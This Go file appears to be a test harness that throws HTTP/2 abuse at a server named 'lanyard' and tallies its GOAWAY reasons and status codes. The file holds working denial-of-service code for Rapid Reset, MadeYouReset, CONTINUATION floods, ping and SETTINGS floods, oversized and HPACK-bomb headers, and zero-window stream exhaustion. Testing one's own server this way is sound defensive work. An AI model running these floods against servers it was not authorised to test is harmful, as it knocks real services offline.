// Misuses of HTTP/2.
package main

import (
	"bytes"
	"io"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// How much is written at a time: many frames in one record of TLS.
const batch = 16 << 10

// begin says hello, and heeds nothing that the daemon wants.
func (c *connection) begin(settings ...http2.Setting) error {
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return err
	}
	return c.WriteSettings(settings...)
}

// heard reads until the daemon ends the connection, and counts what it says.
func (c *connection) heard() error {
	c.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	for {
		frame, err := c.ReadFrame()
		if err != nil {
			return err
		}
		switch frame := frame.(type) {
		case *http2.GoAwayFrame:
			c.all.count(func() { c.all.Reasons[frame.ErrCode.String()]++ })
		case *http2.MetaHeadersFrame:
			c.all.count(func() { c.all.Statuses[frame.PseudoValue("status")]++ })
		}
	}
}

// flood writes the same again and again, while somebody reads, until the daemon ends the connection.
func (c *connection) flood(next func(*http2.Framer)) error {
	ended := make(chan error, 1)
	go func() { ended <- c.heard() }()
	var frames bytes.Buffer
	framer := http2.NewFramer(&frames, nil)
	framer.AllowIllegalWrites = true
	for {
		for frames.Len() < batch {
			next(framer)
		}
		if _, err := c.Write(frames.Bytes()); err != nil {
			return <-ended
		}
		frames.Reset()
	}
}

// request is the head of one.
func request(path string, more ...hpack.HeaderField) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, field := range append([]hpack.HeaderField{
		{Name: ":method", Value: "GET"},
		{Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: "lanyard"},
		{Name: ":path", Value: path},
	}, more...) {
		// Nothing that has to be remembered from one to the next.
		field.Sensitive = true
		encoder.WriteField(field)
	}
	return block.Bytes()
}

func head(stream uint32, block []byte, more bool) http2.HeadersFrameParam {
	return http2.HeadersFrameParam{StreamID: stream, BlockFragment: block, EndStream: true, EndHeaders: !more}
}

// CVE-2023-44487: requests that are taken back at once.
func rapidReset(c *connection) error {
	if err := c.begin(); err != nil {
		return err
	}
	stream, block := uint32(1), request("/.well-known/jwks.json")
	return c.flood(func(framer *http2.Framer) {
		framer.WriteHeaders(head(stream, block, false))
		framer.WriteRSTStream(stream, http2.ErrCodeCancel)
		stream += 2
	})
}

// CVE-2025-8671: requests that the daemon itself has to reset, for a window that is larger than any.
func madeReset(c *connection) error {
	if err := c.begin(); err != nil {
		return err
	}
	stream, block := uint32(1), request("/.well-known/jwks.json")
	return c.flood(func(framer *http2.Framer) {
		framer.WriteHeaders(head(stream, block, false))
		framer.WriteWindowUpdate(stream, 1<<31-1)
		stream += 2
	})
}

// CVE-2024-27316 and its family: a head that never ends.
func continuation(c *connection) error {
	if err := c.begin(); err != nil {
		return err
	}
	field := request("/", hpack.HeaderField{Name: "x-more", Value: strings.Repeat("x", 1000)})
	begun := false
	return c.flood(func(framer *http2.Framer) {
		if begun {
			framer.WriteContinuation(1, false, field)
		} else {
			framer.WriteHeaders(head(1, field, true))
			begun = true
		}
	})
}

func pings(c *connection) error {
	if err := c.begin(); err != nil {
		return err
	}
	return c.flood(func(framer *http2.Framer) { framer.WritePing(false, [8]byte{}) })
}

func settings(c *connection) error {
	if err := c.begin(); err != nil {
		return err
	}
	return c.flood(func(framer *http2.Framer) {
		framer.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 16 << 10})
	})
}

// A head of a mebibyte.
func largeHead(c *connection) error {
	if err := c.begin(); err != nil {
		return err
	}
	block := request("/.well-known/jwks.json", hpack.HeaderField{Name: "x-large", Value: strings.Repeat("x", 1<<20)})
	return c.whole(block)
}

// A head of some 16 KiB that is 50 MiB unpacked: one long field, named again and again.
func packedHead(c *connection) error {
	if err := c.begin(); err != nil {
		return err
	}
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	block.Write(request("/.well-known/jwks.json"))
	field := hpack.HeaderField{Name: "x-packed", Value: strings.Repeat("x", 3500)}
	for range 15_000 {
		encoder.WriteField(field)
	}
	return c.whole(block.Bytes())
}

// whole sends a head in as many frames as it takes, and then waits for what comes of it.
func (c *connection) whole(block []byte) error {
	ended := make(chan error, 1)
	go func() { ended <- c.heard() }()
	part := block[:min(len(block), batch)]
	err := c.WriteHeaders(head(1, part, len(block) > batch))
	for block = block[len(part):]; err == nil && len(block) > 0; block = block[len(part):] {
		part = block[:min(len(block), batch)]
		err = c.WriteContinuation(1, len(block) <= batch, part)
	}
	return <-ended
}

// More requests than may be open, and no window for their answers.
func noWindow(c *connection) error {
	if err := c.begin(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return err
	}
	block := request("/.well-known/jwks.json")
	for stream := uint32(1); stream < 400; stream += 2 {
		if err := c.WriteHeaders(head(stream, block, false)); err != nil {
			return err
		}
	}
	return c.heard()
}

// Only a hello.
func noRequest(c *connection) error {
	if err := c.begin(); err != nil {
		return err
	}
	return c.heard()
}
